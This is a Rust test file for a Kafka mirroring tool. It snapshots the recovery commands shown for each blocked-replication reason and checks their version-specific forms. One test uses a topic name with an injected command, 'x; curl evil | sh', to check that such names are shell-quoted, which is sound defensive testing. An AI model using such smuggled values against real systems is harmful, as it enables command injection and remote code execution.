//! Every reason with what is said about it.

use std::fmt::Write;

use super::*;
use crate::model::VersionRange;
use crate::report::fixture;
use crate::report::shell::{Addresses, Versions};

fn described(reason: &BlockedReason, place: &Place<'_>) -> String {
    let remedy = remedy(reason, place);
    let mut text = format!("{}: {}\n", reason.label(), remedy.text);
    for way in &remedy.ways {
        writeln!(text, "  {}:\n    {}", way.effect, way.command).expect("a String");
    }
    text
}

#[test]
fn every_reason_has_its_commands() {
    let addresses = Addresses { source: "eu:9092".into(), target: "us:9092".into() };
    let (flow, topic, target_topic) = ("eu-to-us".into(), "orders".into(), "eu.orders".into());
    let place = Place {
        flow: &flow,
        topic: &topic,
        target_topic: Some(&target_topic),
        partition: Some(3),
        addresses: &addresses,
        versions: &Versions::default(),
        options: "-c kmirror.toml",
    };
    let texts: String = fixture::blocked_reasons().iter().map(|reason| described(reason, &place)).collect();
    insta::assert_snapshot!(texts, @r#"
    record_too_large: nothing after this record is written until it is; goes on by itself when the limit is raised
      raise the target topic's limit:
        kafka-configs.sh --bootstrap-server us:9092 --alter --entity-type topics --entity-name eu.orders --add-config max.message.bytes=2000000
      leave the record out:
        kmirror run -c kmirror.toml --skip-record eu-to-us:orders:3@4711 --yes
    record_refused: nothing after this record is written until it is; goes on by itself when the setting is changed
      accept old timestamps on the target topic:
        kafka-configs.sh --bootstrap-server us:9092 --alter --entity-type topics --entity-name eu.orders --add-config message.timestamp.before.max.ms=9223372036854775807
      leave the record out:
        kmirror run -c kmirror.toml --skip-record eu-to-us:orders:3@4711 --yes
    record_refused: nothing after this record is written until it is; goes on by itself when the setting is changed
      accept future timestamps on the target topic:
        kafka-configs.sh --bootstrap-server us:9092 --alter --entity-type topics --entity-name eu.orders --add-config message.timestamp.after.max.ms=9223372036854775807
      leave the record out:
        kmirror run -c kmirror.toml --skip-record eu-to-us:orders:3@4711 --yes
    record_refused: nothing after this record is written until it is; goes on by itself when the setting is changed
      keep records by age, not by key, on the target topic (old ones are deleted then):
        kafka-configs.sh --bootstrap-server us:9092 --alter --entity-type topics --entity-name eu.orders --add-config cleanup.policy=delete
      leave the record out:
        kmirror run -c kmirror.toml --skip-record eu-to-us:orders:3@4711 --yes
    rejected: the target refuses this one record; once the cause is removed, start again
      try again:
        kmirror run -c kmirror.toml
      leave the record out:
        kmirror run -c kmirror.toml --skip-record eu-to-us:orders:3@4711 --yes
    topic_authorization: kmirror's user on the target needs the right to Write; goes on by itself then
      allow it (put the user's name for PRINCIPAL):
        kafka-acls.sh --bootstrap-server us:9092 --add --allow-principal User:PRINCIPAL --operation Write --topic eu.orders
    group_authorization: progress is kept in this group on the source; goes on by itself when allowed, or set another `group`
      allow it (put the user's name for PRINCIPAL):
        kafka-acls.sh --bootstrap-server eu:9092 --add --allow-principal User:PRINCIPAL --operation Read --group kmirror.eu-to-us
    partition_count: records go to the partition of the same number, so the target needs as many; goes on by itself then
      add partitions to the target topic:
        kafka-topics.sh --bootstrap-server us:9092 --alter --topic eu.orders --partitions 12
    target_topic_missing: goes on by itself as soon as the topic exists
      create the target topic:
        kafka-topics.sh --bootstrap-server us:9092 --create --topic eu.orders --partitions 12
      have it made anew if it was deleted, and copy all again:
        kmirror run -c kmirror.toml --resume-at eu-to-us:orders:3=earliest
    new_topic: nothing of it is copied or created before you decide; the flow's other topics go on
      mirror it, from its beginning:
        kmirror run -c kmirror.toml --mirror-new eu-to-us:orders
      leave it out for good: add it to the exclude rules in [flows.eu-to-us] of the configuration:
        exclude = ['orders']
      leave all new topics alone from now on, in [flows.eu-to-us] of the configuration:
        new_topics = "ignore"
    progress_missing: the target has records up to offset 900, and nothing says how far the source was copied: say where to go on
      copy all again: what is there already is written twice:
        kmirror run -c kmirror.toml --resume-at eu-to-us:orders:3=earliest
      copy only what is new from now on: what came since the loss is left out:
        kmirror run -c kmirror.toml --resume-at eu-to-us:orders:3=latest
      go on at a source offset that you know:
        kmirror run -c kmirror.toml --resume-at eu-to-us:orders:3=OFFSET
      go on where another group stands:
        kmirror run -c kmirror.toml --resume-at eu-to-us:orders:3=group:GROUP
    written_by_other_flow: nothing is copied before you decide, for what is there already would be there twice; group kmirror.old is left as it is
      it was renamed: go on where it has stopped, in all partitions:
        kmirror run -c kmirror.toml --adopt eu-to-us=kmirror.old
      both are wanted: give the topics other names on the target, in [flows.eu-to-us] of the configuration:
        rename = { prefix = "eu-to-us", separator = "." }
      copy all again, knowing that what is there already is written twice:
        kmirror run -c kmirror.toml --resume-at eu-to-us:orders:3=earliest
      the same for all of its topics, in [flows.eu-to-us] of the configuration:
        target_not_empty = "append"
    retention_overtook: these records are gone from the source and will be missing on the target: go on behind the gap (100..250), and give the source a longer retention if it is to happen less
      go on with the oldest record there is:
        kmirror run -c kmirror.toml --resume-at eu-to-us:orders:3=earliest
    topic_recreated: the target still holds the old topic's records; the new one's would follow them
      copy the new topic from its beginning:
        kmirror run -c kmirror.toml --resume-at eu-to-us:orders:3=earliest
      copy only what is new from now on:
        kmirror run -c kmirror.toml --resume-at eu-to-us:orders:3=latest
    source_topic_gone: nothing more can come; take it out of the flow's `include`, or create it again and start again
      see whether it exists:
        kafka-topics.sh --bootstrap-server eu:9092 --describe --topic orders
    offset_out_of_range: the log on the source is shorter than what was copied from it: it was cut, or is another one
      copy all of it, from offset 0:
        kmirror run -c kmirror.toml --resume-at eu-to-us:orders:3=earliest
      copy only what comes after offset 50:
        kmirror run -c kmirror.toml --resume-at eu-to-us:orders:3=50
    log_truncated: the target may hold records which the source lost; they stay there whatever is chosen
      go on at the same position:
        kmirror run -c kmirror.toml --resume-at eu-to-us:orders:3=900
      copy all again, which writes records twice:
        kmirror run -c kmirror.toml --resume-at eu-to-us:orders:3=earliest
    corrupt_batch: the batch cannot be read by anyone; a replica may still hold it whole: move the leader and start again
      see whether another client can read it:
        kafka-console-consumer.sh --bootstrap-server eu:9092 --topic orders --partition 3 --offset 4711 --max-messages 1
      go on behind it (put the offset after the batch for OFFSET):
        kmirror run -c kmirror.toml --resume-at eu-to-us:orders:3=OFFSET
    unsupported: needs a newer target broker or another setting; goes on by itself then
      see what its brokers support:
        kafka-broker-api-versions.sh --bootstrap-server us:9092
    fault: is tried again at every refresh; the target broker's log tells more
      look at both clusters from here:
        kmirror check -c kmirror.toml
    "#);
}

#[test]
fn every_choice_the_engine_offers_has_a_command() {
    use crate::engine::Choice;
    let addresses = Addresses::default();
    let (flow, topic) = ("f".into(), "t".into());
    let place = Place {
        flow: &flow,
        topic: &topic,
        target_topic: None,
        partition: Some(0),
        addresses: &addresses,
        versions: &Versions::default(),
        options: "",
    };
    for reason in fixture::blocked_reasons() {
        let remedy = remedy(&reason, &place);
        assert!(!remedy.ways.is_empty(), "{}", reason.label());
        let has = |part: &str| remedy.ways.iter().any(|way| way.command.contains(part));
        for choice in reason.choices() {
            match choice {
                Choice::Retry => {}
                Choice::ResumeAt => assert!(has("--resume-at f:t:0="), "{}", reason.label()),
                Choice::Mirror => assert!(has("--mirror-new f:t"), "{}", reason.label()),
                Choice::Ignore => assert!(has("exclude = ['t']"), "{}", reason.label()),
                Choice::Adopt => assert!(has("--adopt f=kmirror.old"), "{}", reason.label()),
                Choice::SkipRecord => assert!(has("--skip-record f:t:0@4711 --yes"), "{}", reason.label()),
            }
        }
    }
}

#[test]
fn a_hostile_name_is_one_quoted_word() {
    let addresses = Addresses::default();
    let (flow, topic) = ("f".into(), "t".into());
    let place = Place {
        flow: &flow,
        topic: &topic,
        target_topic: None,
        partition: None,
        addresses: &addresses,
        versions: &Versions::default(),
        options: "",
    };
    let reason = BlockedReason::SourceTopicGone { topic: "x; curl evil | sh".into() };
    let ways = remedy(&reason, &place).ways;
    assert_eq!(ways[0].command, "kafka-topics.sh --bootstrap-server SOURCE --describe --topic 'x; curl evil | sh'");
}

#[test]
fn the_missing_right_is_named_as_kafka_does() {
    let operations = [
        (Side::Target, "write", "Write"),
        (Side::Target, "produce to `x`", "Write"),
        (Side::Source, "Fetch", "Read"),
        (Side::Target, "create", "Create"),
        (Side::Target, "add partitions", "Alter"),
        (Side::Source, "describe", "Describe"),
        (Side::Source, "describe configs", "DescribeConfigs"),
        (Side::Source, "something", "Read"),
        (Side::Target, "something", "Write"),
    ];
    for (side, operation, expected) in operations {
        assert_eq!(acl_operation(side, operation).to_string(), expected, "{operation}");
    }
}

/// The tools that come with old brokers are told where to go in other ways.
#[test]
fn commands_are_those_of_the_brokers_version() {
    let addresses = Addresses { source: "eu:9092".into(), target: "us:9092".into() };
    let (flow, topic, target_topic) = ("f".into(), "orders".into(), "eu.orders".into());
    let commands = |version: &[u16]| {
        let version = Some(VersionRange::new(version, version));
        let versions = Versions { source: version.clone(), target: version };
        let place = Place {
            flow: &flow,
            topic: &topic,
            target_topic: Some(&target_topic),
            partition: Some(3),
            addresses: &addresses,
            versions: &versions,
            options: "",
        };
        let mut text = String::new();
        for label in
            ["target_topic_missing", "partition_count", "record_too_large", "topic_authorization", "corrupt_batch"]
        {
            let reasons = fixture::blocked_reasons();
            let reason = reasons.iter().find(|reason| reason.label() == label).expect("a reason of this name");
            let way = &remedy(reason, &place).ways[0];
            writeln!(text, "{}:\n  {}", way.effect, way.command).expect("a String");
        }
        text
    };
    insta::assert_snapshot!(commands(&[0, 9]), @r#"
    create the target topic; put the host of their ZooKeeper for ZOOKEEPER:
      kafka-topics.sh --zookeeper ZOOKEEPER:2181 --create --topic eu.orders --partitions 12 --replication-factor 3
    add partitions to the target topic; put the host of their ZooKeeper for ZOOKEEPER:
      kafka-topics.sh --zookeeper ZOOKEEPER:2181 --alter --topic eu.orders --partitions 12
    raise the target topic's limit; put the host of their ZooKeeper for ZOOKEEPER:
      kafka-configs.sh --zookeeper ZOOKEEPER:2181 --alter --entity-type topics --entity-name eu.orders --add-config max.message.bytes=2000000
    allow it (put the user's name for PRINCIPAL); put the host of their ZooKeeper for ZOOKEEPER:
      kafka-acls.sh --authorizer-properties zookeeper.connect=ZOOKEEPER:2181 --add --allow-principal User:PRINCIPAL --operation Write --topic eu.orders
    see whether another client can read it:
      kafka-simple-consumer-shell.sh --broker-list eu:9092 --topic orders --partition 3 --offset 4711 --max-messages 1
    "#);
    insta::assert_snapshot!(commands(&[2, 4]), @r#"
    create the target topic:
      kafka-topics.sh --bootstrap-server us:9092 --create --topic eu.orders --partitions 12
    add partitions to the target topic:
      kafka-topics.sh --bootstrap-server us:9092 --alter --topic eu.orders --partitions 12
    raise the target topic's limit; put the host of their ZooKeeper for ZOOKEEPER:
      kafka-configs.sh --zookeeper ZOOKEEPER:2181 --alter --entity-type topics --entity-name eu.orders --add-config max.message.bytes=2000000
    allow it (put the user's name for PRINCIPAL):
      kafka-acls.sh --bootstrap-server us:9092 --add --allow-principal User:PRINCIPAL --operation Write --topic eu.orders
    see whether another client can read it:
      kafka-console-consumer.sh --bootstrap-server eu:9092 --topic orders --partition 3 --offset 4711 --max-messages 1
    "#);
    assert_eq!(commands(&[2, 5]), commands(&[4, 0]));
    assert!(!commands(&[2, 5]).contains("ZOOKEEPER"));
}
